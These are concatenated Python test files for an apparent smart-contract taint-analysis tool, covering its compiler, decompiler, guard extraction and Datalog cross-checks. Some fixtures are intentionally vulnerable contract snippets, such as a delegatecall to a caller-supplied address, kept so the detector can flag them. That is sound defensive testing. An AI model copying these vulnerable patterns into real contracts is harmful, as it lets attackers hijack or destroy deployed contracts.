    @given(expression(), st.integers(0, WORD), st.integers(0, 1000))
    @settings(max_examples=60, deadline=None)
    def test_expression_matches_reference(self, expr, a, b):
        source = (
            """
contract D {
    uint256 s;
    uint256 t;
    function f(uint256 a, uint256 b) public returns (uint256) { return %s; }
}
"""
            % expr
        )
        ok_c, value_c, _ = run_compiled(source, "f", [a, b])
        ok_r, value_r, _ = run_reference(source, "f", [a, b])
        assert ok_c == ok_r
        assert value_c == value_r


class TestProgramDifferential:
    @given(statement_program(), st.integers(0, 10**9), st.integers(0, 10**9))
    @settings(max_examples=40, deadline=None)
    def test_program_matches_reference(self, source, a, b):
        ok_c, value_c, state_c = run_compiled(source, "f", [a, b])
        ok_r, value_r, state_r = run_reference(source, "f", [a, b])
        assert ok_c == ok_r
        assert value_c == value_r
        assert state_c == {k: v for k, v in state_r.items()}


class TestGuardedDifferential:
    SOURCE = """
contract D {
    uint256 s;
    address owner;
    constructor() { owner = msg.sender; }
    function f(uint256 a) public returns (uint256) {
        require(a > 10);
        s = a;
        return s + 1;
    }
}
"""

    @given(st.integers(0, 30))
    @settings(max_examples=20, deadline=None)
    def test_require_agreement(self, a):
        ok_c, value_c, _ = run_compiled(self.SOURCE, "f", [a], sender=0xD)
        ok_r, value_r, _ = run_reference(self.SOURCE, "f", [a], sender=0xD)
        assert ok_c == ok_r == (a > 10)
        if ok_c:
            assert value_c == value_r == a + 1


class TestMappingDifferential:
    SOURCE = """
contract D {
    mapping(address => uint256) data;
    function put(address k, uint256 v) public { data[k] += v; }
    function get(address k) public returns (uint256) { return data[k]; }
}
"""

    @given(st.lists(st.tuples(st.integers(1, 5), st.integers(0, 100)), max_size=6))
    @settings(max_examples=25, deadline=None)
    def test_mapping_puts_match(self, operations):
        contract = compile_source(self.SOURCE)
        chain = Blockchain()
        chain.fund(0xD, 10**18)
        address = chain.deploy(0xD, contract.init_with_args()).contract_address
        reference = ReferenceContract(self.SOURCE, sender=0xD)
        for key, value in operations:
            chain.transact(0xD, address, contract.calldata("put", key, value))
            reference.call("put", [key, value])
        for key in {key for key, _ in operations} | {99}:
            compiled = decode_word(
                chain.call(0xD, address, contract.calldata("get", key)).return_data
            )
            assert compiled == reference.call("get", [key])
