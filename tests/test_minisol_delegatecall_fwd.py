"""Delegatecall forwarding (`delegatecall(target, "sig", args...)`)."""

import pytest

from repro.core import analyze_bytecode
from repro.minisol import ast_nodes as ast
from repro.minisol import compile_source
from repro.minisol.parser import parse


class TestParsing:
    def test_with_signature_is_external_call(self):
        program = parse(
            'contract C { function f(address t) public { delegatecall(t, "g()"); } }'
        )
        stmt = program.contracts[0].function("f").body.statements[0]
        assert isinstance(stmt.expr, ast.ExternalCall)
        assert stmt.expr.kind == "delegatecall"

    def test_without_signature_is_builtin(self):
        program = parse(
            "contract C { function f(address t) public { delegatecall(t); } }"
        )
        stmt = program.contracts[0].function("f").body.statements[0]
        assert isinstance(stmt.expr, ast.CallExpr)
        assert stmt.expr.name == "delegatecall"

    def test_forwarded_args_parsed(self):
        program = parse(
            'contract C { function f(address t, uint256 v) public '
            '{ delegatecall(t, "set(uint256)", v); } }'
        )
        stmt = program.contracts[0].function("f").body.statements[0]
        assert len(stmt.expr.args) == 1


class TestCodegen:
    def test_emits_delegatecall_opcode(self):
        contract = compile_source(
            'contract C { function f(address t) public { delegatecall(t, "g()"); } }'
        )
        from repro.evm.disassembler import disassemble

        names = {ins.name for ins in disassemble(contract.runtime)}
        assert "DELEGATECALL" in names
        assert "CALL" not in names


class TestAnalysis:
    def test_forwarded_delegatecall_with_tainted_target_flagged(self):
        result = analyze_bytecode(
            compile_source(
                'contract C { function f(address t) public { delegatecall(t, "g()"); } }'
            ).runtime
        )
        assert result.has("tainted-delegatecall")

    def test_forwarded_delegatecall_with_fixed_target_clean(self):
        result = analyze_bytecode(
            compile_source(
                """
contract C {
    address lib;
    constructor(address l) { lib = l; }
    function f(uint256 v) public { delegatecall(lib, "set(uint256)", v); }
}
"""
            ).runtime
        )
        assert not result.has("tainted-delegatecall")
