"""Cross-check: the Datalog transliteration of Figures 3/4 must derive the
same relations as the direct fixpoint, on crafted and random programs."""

from hypothesis import given, settings, strategies as st

from repro.core.abstract_analysis import analyze_abstract
from repro.core.datalog_rules import analyze_with_datalog, facts_from_program
from repro.core.lang import (
    AbstractProgram,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SLoad,
    SStore,
    Sink,
    parse_abstract,
)

COMPARED_FIELDS = (
    "input_tainted",
    "storage_tainted",
    "tainted_storage",
    "non_sanitizing",
    "ds",
    "dsa",
    "violations",
    "computed_sinks",
)


def assert_equivalent(program):
    direct = analyze_abstract(program)
    datalog = analyze_with_datalog(program)
    for field in COMPARED_FIELDS:
        assert getattr(direct, field) == getattr(datalog, field), field


class TestCraftedPrograms:
    def test_empty_program(self):
        assert_equivalent(AbstractProgram())

    def test_tainted_owner_scenario(self):
        assert_equivalent(
            parse_abstract(
                """
o = INPUT
t0 = CONST 0
SSTORE o t0
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
x = INPUT
g = GUARD p x
SINK g
"""
            )
        )

    def test_ds_guard_scenario(self):
        assert_equivalent(
            parse_abstract(
                """
h = HASH sender
SLOAD h p
x = INPUT
g = GUARD p x
SINK g
"""
            )
        )

    def test_storage_write2_scenario(self):
        assert_equivalent(
            parse_abstract(
                """
x = INPUT
a = INPUT
SSTORE x a
s1 = CONST 1
SSTORE q s1
s2 = CONST 2
SLOAD s2 w
SINK w
"""
            )
        )

    def test_composite_chain(self):
        # input -> slot 1 -> loaded -> op -> slot 2 -> guard comparison.
        assert_equivalent(
            parse_abstract(
                """
x = INPUT
t1 = CONST 1
SSTORE x t1
f1 = CONST 1
SLOAD f1 y
z = OP y c
t2 = CONST 2
SSTORE z t2
f2 = CONST 2
SLOAD f2 w
p = EQ sender w
q = INPUT
g = GUARD p q
SINK g
"""
            )
        )


# Random program generator: variables drawn from a small pool so that
# def-use chains actually connect.
_VARS = ["v%d" % i for i in range(8)]
_SLOTS = list(range(4))


@st.composite
def random_instruction(draw):
    kind = draw(st.integers(0, 7))
    x = draw(st.sampled_from(_VARS))
    y = draw(st.sampled_from(_VARS + ["sender"]))
    z = draw(st.sampled_from(_VARS + ["sender"]))
    if kind == 0:
        return Input(x=x)
    if kind == 1:
        return Const(x=x, value=draw(st.sampled_from(_SLOTS)))
    if kind == 2:
        return Op(x=x, y=y, z=z, op=draw(st.sampled_from(["OP", "EQ"])))
    if kind == 3:
        return Op(x=x, y=y, z=None)
    if kind == 4:
        return Hash(x=x, y=y)
    if kind == 5:
        return Guard(x=x, p=y, y=z)
    if kind == 6:
        return SStore(f=y, t=z) if draw(st.booleans()) else SLoad(f=y, t=x)
    return Sink(x=y)


class TestRandomEquivalence:
    @given(st.lists(random_instruction(), max_size=14))
    @settings(max_examples=80, deadline=None)
    def test_direct_and_datalog_agree(self, instructions):
        assert_equivalent(AbstractProgram(instructions=instructions))


class TestFactExtraction:
    def test_sender_var_fact(self):
        database = facts_from_program(AbstractProgram())
        assert database.facts("SenderVar") == {("sender",)}

    def test_known_slot_facts(self):
        program = parse_abstract("t = CONST 3\nSSTORE x t")
        database = facts_from_program(program)
        assert database.facts("KnownSlot") == {(3,)}

    def test_eq_facts_only_for_equalities(self):
        program = parse_abstract("p = EQ a b\nq = OP a b")
        database = facts_from_program(program)
        assert database.count("EqStmt") == 1
        assert database.count("OpUse") == 4
