"""Corpus-wide pipeline invariants.

These run the full pipeline over a corpus sample and assert structural
properties that must hold for EVERY generated contract — the kind of
whole-system health check that catches integration regressions no unit
test sees.
"""

import pytest

from repro.core import analyze_bytecode
from repro.core.facts import extract_facts
from repro.corpus import generate_corpus
from repro.decompiler import find_public_functions, lift
from repro.evm.hashing import function_selector


@pytest.fixture(scope="module")
def sample():
    return generate_corpus(60, seed=77)


class TestDecompilerInvariants:
    def test_all_jumps_resolved(self, sample):
        for contract in sample:
            program = lift(contract.runtime)
            assert program.unresolved_jumps == [], contract.template

    def test_all_public_selectors_recovered(self, sample):
        for contract in sample:
            program = lift(contract.runtime)
            found = {public.selector for public in find_public_functions(program)}
            expected = {
                function_selector(fn.signature)
                for fn in contract.compiled.public_functions
            }
            assert found == expected, contract.template

    def test_single_assignment_holds(self, sample):
        for contract in sample[:20]:
            program = lift(contract.runtime)
            defined = set()
            for stmt in program.statements():
                for var in stmt.defs:
                    assert var not in defined
                    defined.add(var)


class TestAnalysisInvariants:
    def test_analysis_never_errors(self, sample):
        for contract in sample:
            result = analyze_bytecode(contract.runtime)
            assert result.error is None, contract.template

    def test_flags_match_ground_truth_expectations(self, sample):
        for contract in sample:
            result = analyze_bytecode(contract.runtime)
            flagged = {w.kind for w in result.warnings}
            expected = contract.labels | contract.expected_fp_kinds
            assert flagged == expected, (contract.template, flagged, expected)

    def test_every_selfdestruct_bytecode_has_statement(self, sample):
        for contract in sample:
            has_opcode = b"\xff" in contract.runtime
            facts = extract_facts(lift(contract.runtime))
            # Every SELFDESTRUCT statement implies the opcode byte exists
            # (the converse can fail: 0xff bytes appear in push data).
            if facts.selfdestructs:
                assert has_opcode

    def test_no_storage_is_subset_of_default(self, sample):
        from repro.core import AnalysisConfig

        for contract in sample[:25]:
            default_kinds = {
                w.kind for w in analyze_bytecode(contract.runtime).warnings
            }
            ablated_kinds = {
                w.kind
                for w in analyze_bytecode(
                    contract.runtime, AnalysisConfig(model_storage_taint=False)
                ).warnings
            }
            assert ablated_kinds <= default_kinds, contract.template

    def test_no_guards_is_superset_of_default(self, sample):
        from repro.core import AnalysisConfig

        for contract in sample[:25]:
            default_kinds = {
                w.kind for w in analyze_bytecode(contract.runtime).warnings
            }
            ablated_kinds = {
                w.kind
                for w in analyze_bytecode(
                    contract.runtime, AnalysisConfig(model_guards=False)
                ).warnings
            }
            # Tainted-owner needs guards to define its sinks; all other
            # kinds can only grow when guards are ignored.
            assert default_kinds - {"tainted-owner-variable"} <= ablated_kinds, (
                contract.template
            )
