"""TACProgram/TACBlock/TACStatement helpers."""

import pytest

from repro.decompiler import lift
from repro.ir.tac import TACBlock, TACProgram, TACStatement


@pytest.fixture(scope="module")
def program(victim_contract_module):
    return lift(victim_contract_module.runtime)


@pytest.fixture(scope="module")
def victim_contract_module():
    from repro.minisol import compile_source
    from tests.conftest import VICTIM_SOURCE

    return compile_source(VICTIM_SOURCE)


class TestStatement:
    def test_def_var(self):
        stmt = TACStatement(ident="s1", opcode="ADD", defs=["v1"], uses=["a", "b"])
        assert stmt.def_var == "v1"

    def test_def_var_none_for_effectful(self):
        stmt = TACStatement(ident="s1", opcode="SSTORE", uses=["a", "b"])
        assert stmt.def_var is None

    def test_str_rendering(self):
        stmt = TACStatement(ident="s1", opcode="ADD", defs=["v1"], uses=["a", "b"])
        assert str(stmt) == "v1 = ADD(a, b)"
        bare = TACStatement(ident="s2", opcode="STOP")
        assert str(bare) == "STOP()"


class TestProgramIndexes:
    def test_statements_iterates_all(self, program):
        total = sum(len(block.statements) for block in program.blocks.values())
        assert len(list(program.statements())) == total

    def test_statements_by_opcode(self, program):
        selfdestructs = program.statements_by_opcode("SELFDESTRUCT")
        assert len(selfdestructs) == 1
        multi = program.statements_by_opcode("SSTORE", "SLOAD")
        assert all(s.opcode in ("SSTORE", "SLOAD") for s in multi)
        assert multi

    def test_defining_statement_unique(self, program):
        defining = program.defining_statement()
        for variable, stmt in defining.items():
            assert variable in stmt.defs

    def test_uses_of_inverse_of_uses(self, program):
        uses = program.uses_of()
        for variable, statements in uses.items():
            for stmt in statements:
                assert variable in stmt.uses

    def test_block_of_finds_statement(self, program):
        stmt = program.statements_by_opcode("SELFDESTRUCT")[0]
        block = program.block_of(stmt.ident)
        assert block is not None
        assert stmt in block.statements

    def test_block_of_missing(self, program):
        assert program.block_of("nope") is None

    def test_edges_consistent_with_successors(self, program):
        edges = set(program.edges())
        for block in program.blocks.values():
            for successor in block.successors:
                assert (block.ident, successor) in edges

    def test_variables_superset_of_defs(self, program):
        variables = program.variables()
        for stmt in program.statements():
            for var in stmt.defs:
                assert var in variables


class TestBlock:
    def test_iteration(self):
        stmt = TACStatement(ident="s", opcode="STOP")
        block = TACBlock(ident="b", offset=0, statements=[stmt])
        assert list(block) == [stmt]
