"""Satellite: single-contract bundles are byte-identical to `repro analyze`.

The cross-contract pass must be a strict extension: wrapping one contract
in a :class:`ContractBundle` may not perturb its report in any way.  A
Hypothesis property drives corpus contracts through both entry points —
``analyze(bytecode)`` rendered via :class:`ContractReport` and
``analyze_bundle(one-contract bundle)`` rendered via
:class:`BundleReport` — for both the compiled-plan engine and the legacy
interpreter, and demands byte identity modulo the run-varying timing
fields (``elapsed_seconds`` / ``stage_seconds`` are wall-clock
measurements and differ between any two runs, bundled or not)."""

import json

from hypothesis import given, settings, strategies as st

from repro import api
from repro.core.linkage import ContractBundle, bundle_contract
from repro.core.report import BundleReport, ContractReport
from repro.corpus import generate_corpus

CONTRACTS = generate_corpus(8, seed=11)
ENGINES = ["datalog", "datalog-legacy"]


def _canonical(text: str) -> dict:
    """The report with run-varying wall-clock fields zeroed."""
    payload = json.loads(text)
    payload["elapsed_seconds"] = 0.0
    payload["stage_seconds"] = {}
    return payload


@settings(max_examples=16, deadline=None)
@given(
    index=st.integers(min_value=0, max_value=len(CONTRACTS) - 1),
    engine=st.sampled_from(ENGINES),
)
def test_singleton_bundle_report_is_byte_identical(index, engine):
    contract = CONTRACTS[index]
    runtime = contract.runtime
    name = contract.name

    direct_request = api.AnalyzeRequest(
        bytecode=runtime, name=name, engine=engine
    )
    direct = ContractReport.from_result(
        api.analyze(direct_request),
        name=name,
        bytecode_size=len(runtime),
    ).to_json()

    bundle = ContractBundle(
        contracts=(bundle_contract(0xABC, bytecode=runtime, name=name),)
    )
    bundled = BundleReport.from_result(
        api.analyze_bundle(
            api.AnalyzeRequest(bundle=bundle, name=name, engine=engine)
        )
    ).to_json()

    # Byte identity modulo wall-clock: every analysis field — warnings,
    # counts, precision counters, datalog stats — is identical, and the
    # singleton bundle rendering degrades to the exact ContractReport
    # shape (same keys, same order).
    assert _canonical(bundled) == _canonical(direct)
    assert list(json.loads(bundled)) == list(json.loads(direct))


def test_singleton_rendering_is_exact_bytes_for_same_result():
    # Stronger than the property above: rendered from the *same*
    # AnalysisResult, the two report paths agree byte for byte — the
    # timing canonicalization in the property only forgives wall-clock,
    # never shape.
    contract = CONTRACTS[0]
    runtime = contract.runtime
    bundle = ContractBundle(
        contracts=(
            bundle_contract(0xABC, bytecode=runtime, name=contract.name),
        )
    )
    result = api.analyze_bundle(bundle)
    via_bundle = BundleReport.from_result(result).to_json()
    via_contract = ContractReport.from_result(
        result.results[0xABC],
        name=contract.name,
        bytecode_size=len(runtime),
    ).to_json()
    assert via_bundle == via_contract
