"""Guard extraction: sender-scrutinizing guards, polarity, sinks (§4.5)."""

from repro.core.facts import extract_facts
from repro.core.guards import DS_LOOKUP, EQ_SENDER, build_guard_model
from repro.core.storage_model import build_storage_model
from repro.decompiler import lift
from repro.minisol import compile_source


def guards_for(source, name=None):
    facts = extract_facts(lift(compile_source(source, name).runtime))
    storage = build_storage_model(facts)
    return facts, storage, build_guard_model(facts, storage)


OWNER_GUARD = """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender == owner); x = v; }
}
"""

MAPPING_GUARD = """
contract G {
    mapping(address => bool) admins;
    uint256 x;
    function f(uint256 v) public { require(admins[msg.sender]); x = v; }
}
"""

FLAG_GUARD = """
contract G {
    uint256 open;
    uint256 x;
    function f(uint256 v) public { require(open == 1); x = v; }
}
"""


class TestEqSenderGuards:
    def test_owner_guard_detected(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        kinds = {guard.kind for guard in guards.guards}
        assert EQ_SENDER in kinds

    def test_owner_guard_carries_slot(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        eq_guards = [g for g in guards.guards if g.kind == EQ_SENDER]
        assert any(0 in g.compared_slots for g in eq_guards)

    def test_guarded_statement_includes_store(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores
        assert guards.is_guarded(stores[0].statement.ident)

    def test_sink_slots_computed(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        assert guards.sink_slots == {0}

    def test_if_form_guard(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { if (msg.sender == owner) { x = v; } }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)

    def test_negated_sender_compare_does_not_guard(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender != owner); x = v; }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and not guards.is_guarded(stores[0].statement.ident)


class TestDsLookupGuards:
    def test_mapping_guard_detected(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        kinds = {guard.kind for guard in guards.guards}
        assert DS_LOOKUP in kinds

    def test_mapping_guard_root_slot(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        ds_guards = [g for g in guards.guards if g.kind == DS_LOOKUP]
        assert any(g.mapping_slot == 0 for g in ds_guards)

    def test_mapping_guard_protects_store(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)

    def test_no_sink_slot_for_mapping_guard(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        assert guards.sink_slots == set()


class TestNonScrutinizingGuards:
    def test_flag_guard_excluded(self):
        """A non-sender equality never sanitizes (Uguard-NDS folded in)."""
        facts, storage, guards = guards_for(FLAG_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and not guards.is_guarded(stores[0].statement.ident)

    def test_range_check_excluded(self):
        facts, storage, guards = guards_for(
            """
contract G {
    uint256 x;
    function f(uint256 v) public { require(v < 100); x = v; }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 0]
        assert stores and not guards.is_guarded(stores[0].statement.ident)

    def test_unguarded_function(self):
        facts, storage, guards = guards_for(
            "contract G { uint256 x; function f(uint256 v) public { x = v; } }"
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 0]
        assert stores and not guards.is_guarded(stores[0].statement.ident)


class TestConjunctions:
    def test_and_decomposed_into_atoms(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public {
        require(msg.sender == owner && v > 0);
        x = v;
    }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)
        kinds = {g.kind for g in guards.guards}
        assert EQ_SENDER in kinds

    def test_nested_requires_accumulate(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    mapping(address => bool) admins;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public {
        require(admins[msg.sender]);
        require(msg.sender == owner);
        x = v;
    }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 2]
        assert stores
        guard_kinds = {g.kind for g in guards.guards_of(stores[0].statement.ident)}
        assert guard_kinds == {EQ_SENDER, DS_LOOKUP}


class TestVictimGuards:
    def test_victim_guard_structure(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        ds_guards = [g for g in guards.guards if g.kind == DS_LOOKUP]
        roots = {g.mapping_slot for g in ds_guards}
        assert roots == {0, 1}  # onlyAdmins and onlyUsers
        # The selfdestruct is guarded (statically) by onlyAdmins.
        selfdestruct = facts.selfdestructs[0]
        assert guards.is_guarded(selfdestruct.ident)
