"""Guard extraction: sender-scrutinizing guards, polarity, sinks (§4.5)."""

from repro.core.facts import extract_facts
from repro.core.guards import DS_LOOKUP, EQ_SENDER, build_guard_model
from repro.core.storage_model import build_storage_model
from repro.decompiler import lift
from repro.minisol import compile_source


def guards_for(source, name=None):
    facts = extract_facts(lift(compile_source(source, name).runtime))
    storage = build_storage_model(facts)
    return facts, storage, build_guard_model(facts, storage)


OWNER_GUARD = """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender == owner); x = v; }
}
"""

MAPPING_GUARD = """
contract G {
    mapping(address => bool) admins;
    uint256 x;
    function f(uint256 v) public { require(admins[msg.sender]); x = v; }
}
"""

FLAG_GUARD = """
contract G {
    uint256 open;
    uint256 x;
    function f(uint256 v) public { require(open == 1); x = v; }
}
"""


class TestEqSenderGuards:
    def test_owner_guard_detected(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        kinds = {guard.kind for guard in guards.guards}
        assert EQ_SENDER in kinds

    def test_owner_guard_carries_slot(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        eq_guards = [g for g in guards.guards if g.kind == EQ_SENDER]
        assert any(0 in g.compared_slots for g in eq_guards)

    def test_guarded_statement_includes_store(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores
        assert guards.is_guarded(stores[0].statement.ident)

    def test_sink_slots_computed(self):
        facts, storage, guards = guards_for(OWNER_GUARD)
        assert guards.sink_slots == {0}

    def test_if_form_guard(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { if (msg.sender == owner) { x = v; } }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)

    def test_negated_sender_compare_does_not_guard(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender != owner); x = v; }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and not guards.is_guarded(stores[0].statement.ident)


class TestDsLookupGuards:
    def test_mapping_guard_detected(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        kinds = {guard.kind for guard in guards.guards}
        assert DS_LOOKUP in kinds

    def test_mapping_guard_root_slot(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        ds_guards = [g for g in guards.guards if g.kind == DS_LOOKUP]
        assert any(g.mapping_slot == 0 for g in ds_guards)

    def test_mapping_guard_protects_store(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)

    def test_no_sink_slot_for_mapping_guard(self):
        facts, storage, guards = guards_for(MAPPING_GUARD)
        assert guards.sink_slots == set()


class TestNonScrutinizingGuards:
    def test_flag_guard_excluded(self):
        """A non-sender equality never sanitizes (Uguard-NDS folded in)."""
        facts, storage, guards = guards_for(FLAG_GUARD)
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and not guards.is_guarded(stores[0].statement.ident)

    def test_range_check_excluded(self):
        facts, storage, guards = guards_for(
            """
contract G {
    uint256 x;
    function f(uint256 v) public { require(v < 100); x = v; }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 0]
        assert stores and not guards.is_guarded(stores[0].statement.ident)

    def test_unguarded_function(self):
        facts, storage, guards = guards_for(
            "contract G { uint256 x; function f(uint256 v) public { x = v; } }"
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 0]
        assert stores and not guards.is_guarded(stores[0].statement.ident)


class TestConjunctions:
    def test_and_decomposed_into_atoms(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public {
        require(msg.sender == owner && v > 0);
        x = v;
    }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 1]
        assert stores and guards.is_guarded(stores[0].statement.ident)
        kinds = {g.kind for g in guards.guards}
        assert EQ_SENDER in kinds

    def test_nested_requires_accumulate(self):
        facts, storage, guards = guards_for(
            """
contract G {
    address owner;
    mapping(address => bool) admins;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public {
        require(admins[msg.sender]);
        require(msg.sender == owner);
        x = v;
    }
}
"""
        )
        stores = [s for s in facts.storage_stores if s.const_slot == 2]
        assert stores
        guard_kinds = {g.kind for g in guards.guards_of(stores[0].statement.ident)}
        assert guard_kinds == {EQ_SENDER, DS_LOOKUP}


class TestVictimGuards:
    def test_victim_guard_structure(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        ds_guards = [g for g in guards.guards if g.kind == DS_LOOKUP]
        roots = {g.mapping_slot for g in ds_guards}
        assert roots == {0, 1}  # onlyAdmins and onlyUsers
        # The selfdestruct is guarded (statically) by onlyAdmins.
        selfdestruct = facts.selfdestructs[0]
        assert guards.is_guarded(selfdestruct.ident)


class TestConditionNormalization:
    """_normalize / _atoms over synthetic def chains: ISZERO stripping and
    nested-AND decomposition."""

    @staticmethod
    def _facts(statements, const_value=None):
        from repro.ir.tac import TACBlock, TACProgram

        block = TACBlock(ident="B0", offset=0, statements=list(statements))
        program = TACProgram(
            blocks={"B0": block}, entry="B0", const_value=dict(const_value or {})
        )
        return extract_facts(program)

    @staticmethod
    def _stmt(ident, opcode, defs=(), uses=()):
        from repro.ir.tac import TACStatement

        return TACStatement(
            ident=ident, opcode=opcode, defs=list(defs), uses=list(uses)
        )

    def test_double_iszero_chain_restores_polarity(self):
        from repro.core.guards import _normalize

        facts = self._facts(
            [
                self._stmt("s0", "CALLDATALOAD", ["x"], ["o"]),
                self._stmt("s1", "ISZERO", ["a"], ["x"]),
                self._stmt("s2", "ISZERO", ["b"], ["a"]),
            ]
        )
        assert _normalize(facts, "b", True) == ("x", True)
        assert _normalize(facts, "a", True) == ("x", False)

    def test_triple_iszero_chain_flips_polarity(self):
        from repro.core.guards import _normalize

        facts = self._facts(
            [
                self._stmt("s0", "CALLDATALOAD", ["x"], ["o"]),
                self._stmt("s1", "ISZERO", ["a"], ["x"]),
                self._stmt("s2", "ISZERO", ["b"], ["a"]),
                self._stmt("s3", "ISZERO", ["c"], ["b"]),
            ]
        )
        assert _normalize(facts, "c", True) == ("x", False)
        assert _normalize(facts, "c", False) == ("x", True)

    def test_nested_and_decomposes_into_all_conjuncts(self):
        from repro.core.guards import _atoms

        facts = self._facts(
            [
                self._stmt("s0", "CALLDATALOAD", ["p"], ["o1"]),
                self._stmt("s1", "CALLDATALOAD", ["q"], ["o2"]),
                self._stmt("s2", "CALLDATALOAD", ["r"], ["o3"]),
                self._stmt("s3", "AND", ["pq"], ["p", "q"]),
                self._stmt("s4", "AND", ["pqr"], ["pq", "r"]),
            ]
        )
        atoms = _atoms(facts, "pqr", True)
        assert sorted(atoms) == [("p", True), ("q", True), ("r", True)]

    def test_and_under_iszero_not_decomposed(self):
        """!(p && q) is NOT p' && q' — the conjunction must survive whole."""
        from repro.core.guards import _atoms

        facts = self._facts(
            [
                self._stmt("s0", "CALLDATALOAD", ["p"], ["o1"]),
                self._stmt("s1", "CALLDATALOAD", ["q"], ["o2"]),
                self._stmt("s2", "AND", ["pq"], ["p", "q"]),
                self._stmt("s3", "ISZERO", ["n"], ["pq"]),
            ]
        )
        assert _atoms(facts, "n", True) == [("pq", False)]


class TestValueResolvedGuards:
    """EQ_SENDER guards whose compared operand only becomes a known slot
    through the value-analysis stratum (a computed-but-singleton load)."""

    SOURCE = """
contract G {
    address[2] owners;
    uint256 x;

    constructor() { owners[0] = msg.sender; }

    function f(uint256 v) public {
        uint256 idx = 0;
        require(msg.sender == owners[idx]);
        x = v;
    }
}
"""

    @staticmethod
    def _models(source, value_analysis):
        from repro.ir.value_analysis import analyze_values

        program = lift(compile_source(source).runtime)
        facts = extract_facts(program)
        if value_analysis:
            facts = facts.with_variable_values(analyze_values(program).exported())
        storage = build_storage_model(facts)
        return facts, storage, build_guard_model(facts, storage)

    def test_without_value_analysis_no_compared_slot(self):
        facts, storage, guards = self._models(self.SOURCE, value_analysis=False)
        eq_guards = [g for g in guards.guards if g.kind == EQ_SENDER]
        assert eq_guards
        assert all(not g.compared_slots for g in eq_guards)

    def test_with_value_analysis_compared_slot_resolved(self):
        facts, storage, guards = self._models(self.SOURCE, value_analysis=True)
        eq_guards = [g for g in guards.guards if g.kind == EQ_SENDER]
        assert any(0 in g.compared_slots for g in eq_guards)

    def test_value_alias_recorded_on_storage_model(self):
        facts, storage, guards = self._models(self.SOURCE, value_analysis=True)
        assert any(slots == {0} for slots in storage.value_alias.values())
