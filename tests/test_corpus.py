"""Corpus generator: determinism, compilability, ground-truth consistency."""

import random

import pytest

from repro.core import analyze_bytecode
from repro.corpus import TEMPLATES, generate_corpus
from repro.corpus.generator import DEFAULT_WEIGHTS
from repro.minisol import compile_source


class TestTemplates:
    @pytest.mark.parametrize("template_name", sorted(TEMPLATES))
    def test_template_compiles_across_seeds(self, template_name):
        for seed in range(3):
            output = TEMPLATES[template_name](random.Random(seed * 31 + 1))
            compiled = compile_source(output.source, output.contract_name)
            assert compiled.runtime

    @pytest.mark.parametrize("template_name", sorted(TEMPLATES))
    def test_analysis_matches_template_expectation(self, template_name):
        """Ethainter must flag exactly labels ∪ expected FP kinds."""
        output = TEMPLATES[template_name](random.Random(1234))
        compiled = compile_source(output.source, output.contract_name)
        result = analyze_bytecode(compiled.runtime)
        flagged = {w.kind for w in result.warnings}
